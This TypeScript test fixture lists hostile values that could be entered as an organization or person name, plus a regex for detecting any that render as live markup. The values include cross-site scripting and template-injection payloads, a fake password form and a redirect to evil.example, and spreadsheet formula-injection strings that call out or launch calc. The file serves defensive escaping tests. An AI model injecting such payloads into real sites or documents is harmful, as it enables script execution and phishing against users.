/** What an organization, its provider or a person may put into a name, to be something else than a name. */
export const hostileWords: readonly string[] = [
  '"><img src=x onerror="window.hit=1">',
  "'><svg/onload=window.hit=1>",
  '</title></style></textarea></script><script>window.hit=1</script>',
  '<a href="javascript:window.hit=1">Continue</a>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name="password">',
  '{{constructor.constructor("window.hit=1")()}}$\u007bwindow.hit=1}<%= 7*7 %>',
  '--><!--><script>window.hit=1</script>',
  '&lt;script&gt;window.hit=1&lt;/script&gt;&#x3c;b&#x3e;',
  '=HYPERLINK("https://evil.example","Bill")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
]

/** The same in one line of text. */
export const allHostileWords = hostileWords.join(' ')

/** Tags, attributes and addresses that none of our pages and mails holds: words that became something. */
export const BECAME_MORE =
  /<(img src=x|svg\/onload|base\b|form action="https:\/\/evil|a href="(javascript|https:\/\/evil))|<script>window|\son(error|load)=window/i
